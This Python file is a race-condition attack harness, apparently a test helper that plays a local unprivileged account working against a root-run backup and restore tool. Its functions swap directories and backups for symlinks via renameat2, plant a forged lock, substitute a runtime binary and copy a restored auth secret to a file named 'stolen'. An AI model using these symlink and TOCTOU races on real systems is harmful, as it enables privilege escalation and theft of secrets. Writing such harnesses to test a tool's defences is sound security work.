"""A process of the account that works against root while a verb runs; started by `race.started`.

It begins as root, because the interpreter may be closed to the account, gives root up, and then imports nothing more:
``python -I attacker.py UID GID WAY HOME ARGUMENT…``. It writes one line when it begins, and ends by a signal.
"""

from __future__ import annotations

import ctypes
import errno
import fcntl
import json
import os
import random
import shutil
import sys
import time
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

AT_FDCWD = -100
RENAME_EXCHANGE = 2
LONGEST_PAUSE = 400e-6  # seconds
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.renameat2.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_int, ctypes.c_char_p, ctypes.c_uint]


def exchange(one: Path, other: Path) -> None:
    """Let two names change places, at once where the system can. Raises OSError."""
    if LIBC.renameat2(AT_FDCWD, os.fsencode(one), AT_FDCWD, os.fsencode(other), RENAME_EXCHANGE) == 0:
        return
    number = ctypes.get_errno()
    if number not in {errno.EINVAL, errno.ENOSYS}:
        raise OSError(number, os.strerror(number), str(one))
    aside = other.with_name(f"{other.name}.aside")
    one.rename(aside)
    other.rename(one)
    aside.rename(other)


def exchange_directories(home: Path, target: str, *names: str) -> None:
    """Exchange what lies in the home under *names* for links to *target*, one after the other."""
    beside = home / ".beside"
    beside.mkdir(exist_ok=True)
    pairs = [(home / name, beside / name.replace("/", "-")) for name in names]
    for _, link in pairs:
        link.symlink_to(target)
    while True:
        for place, link in pairs:
            with suppress(OSError):  # it is not there just now
                exchange(place, link)
                _pause()
                exchange(place, link)
            _pause()


def exchange_home(home: Path, target: str) -> None:
    """Exchange the home itself for a link to *target*."""
    link = home.with_name("link")
    link.symlink_to(target)
    while True:
        exchange(home, link)
        _pause(part=0.25)


def hold_lock(home: Path, path: str, pid: str) -> None:
    """Hold the lock *path* with *pid* in it."""
    descriptor = os.open(home / path, os.O_RDWR | os.O_CREAT, 0o600)
    fcntl.flock(descriptor, fcntl.LOCK_EX)
    os.ftruncate(descriptor, 0)
    os.pwrite(descriptor, json.dumps({"pid": int(pid), "url": "http://127.0.0.1:9"}).encode(), 0)
    _say_ready()
    time.sleep(600)


def move_copy_to_runtime(home: Path, backup: str) -> None:
    """Put the copy that is made of *backup* to verify it in the place of the program, then make the copying fail."""
    copy = _await(home / "backups", ".verify.*.tmp/.data.*.tmp")
    time.sleep(0.03)  # what is to be missed must have been listed
    (home / "runtime").rename(home / ".runtime")
    copy.parent.rename(home / "runtime")
    (home / "runtime" / copy.name).rename(home / "runtime" / "gateway-9.9.9")
    (home / "backups" / backup / "data" / "zz").rmdir()
    (home / "runtime" / "current").symlink_to("gateway-9.9.9")
    time.sleep(600)


def exchange_backup(home: Path, backup: str, target: str) -> None:
    """Exchange *backup* for a link to *target* while its data is copied, and keep what lies in the home then."""
    _await(home, ".restoring/new/.data.*.tmp")
    place = home / "backups" / backup
    place.rename(home / "backups" / f".{backup}")
    place.symlink_to(target)
    while True:
        with suppress(OSError):
            shutil.copyfile(_await(home, ".restoring/new/secrets/auth-secret"), home / "stolen")


def _await(top: Path, pattern: str) -> Path:
    """Return the first path of *pattern* as soon as it is there."""
    while True:
        with suppress(OSError):  # a directory was renamed meanwhile
            for path in top.glob(pattern):
                return path


def _pause(*, part: float = 1.0) -> None:
    time.sleep(random.uniform(0, LONGEST_PAUSE * part))


def _say_ready() -> None:
    sys.stdout.write("ready\n")
    sys.stdout.flush()


WAYS: dict[str, Callable[..., None]] = {
    way.__name__: way for way in (exchange_directories, exchange_home, hold_lock, move_copy_to_runtime, exchange_backup)
}


def main(uid: str, gid: str, way: str, home: str, *arguments: str) -> None:
    """Become the account and go on for ever."""
    os.setgroups([])
    os.setresgid(int(gid), int(gid), int(gid))
    os.setresuid(int(uid), int(uid), int(uid))
    if way != hold_lock.__name__:
        _say_ready()
    WAYS[way](Path(home), *arguments)


if __name__ == "__main__":
    main(*sys.argv[1:])
